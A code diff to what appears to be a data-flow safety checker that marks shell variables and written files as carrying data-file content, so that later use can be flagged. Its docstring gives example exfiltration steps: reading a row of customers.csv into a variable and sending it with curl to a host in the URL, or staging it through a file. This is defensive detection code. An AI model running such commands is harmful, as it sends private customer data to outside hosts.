@@ -246,13 +246,24 @@ def may_hold_data(values: Values, name: str) -> bool:
     return False
 
 
-def mark_data(an: Any, notes: Notes) -> None:
-    """At the end of the session's own line that names a data file (``safety.flows.names_data``): every name the line
-    gave a value it did not read keeps ``DATA`` for later steps (``export T=$(sed -n 2p customers.csv)`` one step,
-    ``curl "http://h/$T"`` the next)."""
+FILE = "!file:"  # a key of ``deps``: a file a line that carried a data file's text wrote (its absolute path) -> {DATA}
+
+
+def mark_data(an: Any, notes: Notes, written: list[str]) -> None:
+    """At the end of the session's own line that carries a data file's text (``safety.flows.line_data``): every name
+    the line gave a value it did not read keeps ``DATA`` for later steps (``export T=$(sed -n 2p customers.csv)`` one
+    step, ``curl "http://h/$T"`` the next; ``printf -v U %s "$T"`` in between), and so does each file it wrote
+    (``sed -n 2p customers.csv > t.txt``, read back a step later)."""
     for name, _, _ in notes.sources:
         if may_hold_unread(an.values, name):
             an.values.deps.setdefault(name, set()).add(DATA)
+    for path in written:
+        an.values.deps[FILE + path] = {DATA}
+
+
+def data_file(values: Values, path: str) -> bool:
+    """Whether an earlier line that carried a data file's text wrote ``path`` (absolute)."""
+    return FILE + path in values.deps
 
 
 def may_hold_unread(values: Values, name: str) -> bool:
